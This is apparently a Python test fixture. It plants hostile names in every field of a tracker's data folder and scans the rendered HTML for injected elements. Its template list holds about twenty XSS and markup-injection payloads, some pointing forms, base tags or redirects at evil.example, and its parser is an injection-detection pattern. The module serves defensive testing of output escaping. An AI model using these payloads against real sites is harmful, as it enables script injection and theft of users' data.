"""A data folder in which every name that a person or a file can choose is an attack, and how to see one that works.

Each hostile text carries a token of its own, so that a kit can tell which of them reached a page at all. It is read as
HTML here without a browser; the full level also opens the pages in Chromium.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pyarrow as pa

from lora_assets.specs import TrackerSpec, dataset_slug, write_tracker
from lora_assets.store import Store, digest
from lora_assets.tables import Detection, RawFrame
from lora_assets.verdicts import Mark, open_log
from lora_assets_tests.tracker.drawn_data import draw_frame, write_cell

TRACKER = "HOSTILE"
OTHER = "HOSTILE-2"
_SIZE = (96, 64)
_TEMPLATES = (
    '"><img src=x onerror=pwned("{t}") data-pwned={t}>',
    "</script><script data-pwned={t}>pwned('{t}')</script>",
    '" onfocus=pwned("{t}") autofocus data-pwned={t} x="',
    "' onmouseover='pwned(1)' data-pwned='{t}",
    "--><svg/onload=pwned('{t}') data-pwned={t}>",
    "<a href=\"javascript:pwned('{t}')\" data-pwned={t}>x</a>",
    "\u2028</script><img src=x onerror=pwned('{t}') data-pwned={t}>",
    "</title><body onload=pwned('{t}') data-pwned={t}>",
    "</textarea><iframe srcdoc='<script>parent.pwned(1)</script>' data-pwned={t}>",
    "<base href=//evil.example/ data-pwned={t}>",
    "<meta http-equiv=refresh content='0;url=//evil.example' data-pwned={t}>",
    "<style data-pwned={t}>*{{display:none}}</style>",
    "<link rel=stylesheet href=//evil.example data-pwned={t}>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned(1) data-pwned={t}>",
    "{{{{7*7}}}}{{% raw %}}<i data-pwned={t}>",
    "${{pwned(1)}}`<b data-pwned={t}>`",
    "</svg><svg><script data-pwned={t}>pwned(1)</script>",
    "<form action=//evil.example data-pwned={t}><button formaction=javascript:pwned(1)>",
    "<details open ontoggle=pwned('{t}') data-pwned={t}>",
    "<template data-pwned={t}><slot></template><object data=javascript:pwned(1)>",
)
PLACES = (
    "dataset", "file", "refused file", "reason", "label", "detector", "weights", "setting", "note", "ticket",
    "verdict note", "crop flag",
)  # fmt: skip


@dataclass(slots=True)
class Planted:
    """The folder, and token -> place of every hostile text in it."""

    data: Path
    tokens: dict[str, str] = field(default_factory=dict)
    crops: list[str] = field(default_factory=list)

    def text(self, place: str, number: int, *, file_name: bool = False) -> str:
        """The hostile text `number` for a place; file names hold no slash."""
        token = f"pwn{PLACES.index(place):02}n{number:02}x"
        self.tokens[token] = place
        made = _TEMPLATES[number % len(_TEMPLATES)].format(t=token)
        return made.replace("/", "") if file_name else made


def plant(data: Path, kinds: int) -> Planted:
    """A tracker whose every name is hostile, `kinds` (1 to 20) kinds of attack in each of PLACES."""
    planted = Planted(data)
    folders = [planted.text("dataset", number, file_name=True) for number in range(kinds)]
    slugs = [dataset_slug(name) for name in folders]
    settings = {"detect": {"weights": [planted.text("setting", 0)]}}
    write_tracker(data, TrackerSpec(TRACKER, tuple(slugs), planted.text("note", 0), planted.text("ticket", 0)))
    write_tracker(data, TrackerSpec(OTHER, tuple(slugs[:2]), baseline=TRACKER, settings=settings))
    for number in range(1, kinds):
        note, ticket = planted.text("note", number), planted.text("ticket", number)
        write_tracker(data, TrackerSpec(f"NOTE-{number:02}", (), note, ticket))
    store = Store(data)
    for number, (name, slug) in enumerate(zip(folders, slugs, strict=True)):
        bad = _refused(planted, number)
        for tracker in (TRACKER, OTHER) if number < 2 else (TRACKER,):
            file = planted.text("file", number, file_name=True)
            frame = draw_frame(300 + number, f"{file}.png", _SIZE, 1)
            write_cell(data, tracker, slug, data / "input" / name, [frame], [bad])
            _rename_detections(store, planted, tracker, slug, number)
    _say(planted, store, slugs)
    return planted


def _refused(planted: Planted, number: int) -> RawFrame:
    path = planted.text("refused file", number, file_name=True)
    reason = planted.text("reason", number)
    return RawFrame(f"{path}.gif", None, 7, 1, 1, None, None, None, None, None, None, None, reason)


def _rename_detections(store: Store, planted: Planted, tracker: str, slug: str, number: int) -> None:
    """Publish the cell's tables again with hostile labels, detectors, flags, settings and names of weights."""
    names: dict[str, dict[str, Any]] = {
        "detections": {
            "label": planted.text("label", number),
            "detector": planted.text("detector", number),
            "detectors": [planted.text("detector", number)],
            "detector_confidences": [0.5],
        },
        "scored_crops": {"flags": [planted.text("crop flag", number)], "flag_values": [0.1], "flag_limits": [0.2]},
    }
    for stage, columns in names.items():
        published = store.cell_table(stage, slug, tracker)
        assert published is not None
        table = published.read()
        for name, value in columns.items():
            if name in table.column_names:
                place = table.column_names.index(name)
                kind = table.schema.field(name)
                table = table.set_column(place, kind, pa.array([value] * len(table), kind.type))
        row_type = Detection if stage == "detections" else _row_type(stage)
        told = {
            **published.facts,
            "settings": {"weights": [planted.text("setting", number)]},
            "weights": {"name": planted.text("weights", number), "sha256": "ab" * 32, "starter": False},
        }
        store.publish(published.path, row_type, [table], digest(stage, number, "hostile"), told)


def _row_type(stage: str) -> Any:
    from lora_assets.tables import TABLES

    return TABLES[stage]


def _say(planted: Planted, store: Store, slugs: list[str]) -> None:
    """A verdict with a hostile note on every crop."""
    marks = []
    for number, slug in enumerate(slugs):
        crops, boxes = store.cell_table("scored_crops", slug, TRACKER), store.cell_table("detections", slug, TRACKER)
        assert crops is not None
        assert boxes is not None
        crop, box = crops.read().to_pylist()[0], boxes.read().to_pylist()[0]
        planted.crops.append(crop["crop_id"])
        marks.append(
            Mark(
                tracker=TRACKER, dataset=slug, frame_sha256=crop["frame_sha256"],
                box=(box["x1"], box["y1"], box["x2"], box["y2"]), crop_id=crop["crop_id"], value="good",
                request_id=f"hostile-{number}", note=planted.text("verdict note", number),
            )
        )  # fmt: skip
    with open_log(planted.data) as log:
        log.append(*marks)


class _Spy(HTMLParser):
    """Collects what no template of the pages writes: planted attributes, event handlers, addresses that are scripts."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            text = (value or "").strip().lower()
            if name == "data-pwned" or name.startswith("on") or text.startswith("javascript:"):
                self.found.append(f"<{tag} {name}={value!r}>")
        if tag in ("iframe", "object", "embed", "base"):
            self.found.append(f"<{tag}>")


def injected(page: str) -> list[str]:
    """The elements and attributes of a page that came out of somebody's text."""
    spy = _Spy()
    spy.feed(page)
    spy.close()
    return spy.found
